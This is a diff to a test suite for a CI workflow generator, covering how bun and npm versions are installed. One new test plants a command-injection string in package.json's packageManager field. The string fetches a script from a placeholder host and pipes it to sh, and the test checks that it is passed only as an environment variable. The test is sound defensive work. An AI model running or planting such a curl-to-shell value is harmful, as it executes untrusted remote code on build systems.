@@ -92,6 +92,10 @@ describe('ci generator', () => {
     ['yarn', { 'yarn.lock': '__metadata:\n  version: 8\n', 'package.json': '{"packageManager":"yarn@4.18.1"}' }],
     ['yarn classic', { 'yarn.lock': '# yarn lockfile v1\n' }],
     ['bun', { 'bun.lock': '{\n  "lockfileVersion": 1,\n}\n' }],
+    [
+      'npm with devEngines npm >=10 <11',
+      { 'package-lock.json': '{}\n', 'package.json': '{"devEngines":{"packageManager":{"name":"npm","version":">=10 <11"}}}' },
+    ],
   ])('%s: every workflow, sharded or not, with pages or not, passes actionlint', async (_pm, files) => {
     tree.delete('package-lock.json');
     for (const [path, text] of Object.entries(files)) tree.write(path, text);
@@ -737,7 +741,9 @@ describe('ci generator', () => {
         const list = steps(file);
         const setupNode = list.findIndex((st) => String(st.uses).startsWith('actions/setup-node@'));
         expect(list[setupNode].with.cache).toBe(expected.cache);
-        const bun = expected.bun ? [{ name: 'Set up bun', run: `npm install --global --allow-scripts=bun bun@${expected.bun}` }] : [];
+        const bun = expected.bun
+          ? [{ name: 'Set up bun', env: { BUN_VERSION: expected.bun }, run: 'npm install --global --allow-scripts=bun "bun@$BUN_VERSION"' }]
+          : [];
         expect(list.slice(setupNode + 1, setupNode + 2 + bun.length)).toEqual([...bun, { name: 'Install', run: expected.install }]);
         // corepack before setup-node: setup-node asks the package manager where its cache is.
         expect(list[setupNode - 1].run ?? null).toBe(expected.setup ? 'corepack enable' : null);
@@ -834,7 +840,7 @@ describe('ci generator', () => {
       tree.delete('package-lock.json');
       tree.write('bun.lock', '{\n  "lockfileVersion": 2,\n  "configVersion": 1,\n}\n');
       await generate();
-      expect(steps(PR_FAST_WORKFLOW).find((st) => st.name === 'Set up bun')!.run).toBe('npm install --global --allow-scripts=bun bun@1.4.5');
+      expect(steps(PR_FAST_WORKFLOW).find((st) => st.name === 'Set up bun')!.env).toEqual({ BUN_VERSION: '1.4.5' });
       expect(warnings).toContain(
         'package.json has no "packageManager": "bun@<version>": the workflows install bun 1.4.5 (the release that writes bun.lock lockfileVersion 2); pin yours with "packageManager": "bun@<version>"',
       );
@@ -842,8 +848,51 @@ describe('ci generator', () => {
       tree.delete('bun.lock');
       tree.write('bun.lockb', '#!/usr/bin/env bun\nbun-lockfile-format-v0\n');
       await generate();
-      expect(steps(FULL_WORKFLOW).find((st) => st.name === 'Set up bun')!.run).toBe('npm install --global --allow-scripts=bun bun@1.1.45');
+      expect(steps(FULL_WORKFLOW).find((st) => st.name === 'Set up bun')!.env).toEqual({ BUN_VERSION: '1.1.45' });
       expect(warnings[0]).toMatch(/the workflows install bun 1\.1\.45 \(the release that writes bun\.lockb \(binary, bun 1\.1 and earlier\)\)/);
+    });
+
+    it('a version from package.json reaches the setup script through env only, never as part of the command', async () => {
+      tree.delete('package-lock.json');
+      tree.write('bun.lock', '{ "lockfileVersion": 1 }\n');
+      tree.write('package.json', JSON.stringify({ name: 'integration', private: true, packageManager: 'bun@1.3.14; curl example.invalid | sh' }));
+      await generate();
+      const step = steps(PR_FAST_WORKFLOW).find((st) => st.name === 'Set up bun')!;
+      expect(step.run).toBe('npm install --global --allow-scripts=bun "bun@$BUN_VERSION"');
+      expect(step.env).toEqual({ BUN_VERSION: '1.3.14; curl example.invalid | sh' });
+    });
+
+    it.each([
+      ['^10.0.0', { name: 'npm', version: '^10.0.0' }],
+      ['>=10 <11, the first of a list', [{ name: 'npm', version: '>=10 <11' }, { name: 'pnpm' }]],
+    ])(
+      'devEngines asking for npm %s: that npm goes on PATH after Node.js, and setup-node caches nothing (npm would refuse its query)',
+      async (range, packageManager) => {
+        tree.write('package.json', JSON.stringify({ name: 'integration', private: true, devEngines: { packageManager } }));
+        await generate();
+        const wanted = range.replace(', the first of a list', '');
+        for (const file of [PR_FAST_WORKFLOW, CHANGESET_WORKFLOW, FULL_WORKFLOW, RELEASE_GATE_WORKFLOW]) {
+          const list = steps(file);
+          const setupNode = list.findIndex((st) => String(st.uses).startsWith('actions/setup-node@'));
+          expect(list[setupNode].with.cache).toBeUndefined();
+          expect(list.slice(setupNode + 1, setupNode + 3)).toEqual([
+            { name: 'Set up npm', env: { NPM_VERSION: wanted }, run: 'npm install --global "npm@$NPM_VERSION"' },
+            { name: 'Install', run: 'npm ci' },
+          ]);
+        }
+        expect(infos.find((m) => m.startsWith('Package manager '))).toContain(`npm ${wanted} as devEngines.packageManager asks, installed after Node.js`);
+        expect(warnings.filter((w) => !w.includes('placeholder'))).toEqual([]);
+      },
+    );
+
+    it('devEngines naming npm that lets any npm run (onFail warn, or no version) change nothing', async () => {
+      for (const packageManager of [{ name: 'npm', version: '^10.0.0', onFail: 'warn' }, { name: 'npm' }]) {
+        tree.write('package.json', JSON.stringify({ name: 'integration', private: true, devEngines: { packageManager } }));
+        await generate();
+        const list = steps(PR_FAST_WORKFLOW);
+        expect(list.find((st) => String(st.uses).startsWith('actions/setup-node@'))!.with.cache).toBe('npm');
+        expect(list.some((st) => st.name === 'Set up npm')).toBe(false);
+      }
     });
 
     it('every job of a sharded workflow sets up bun the same way', async () => {
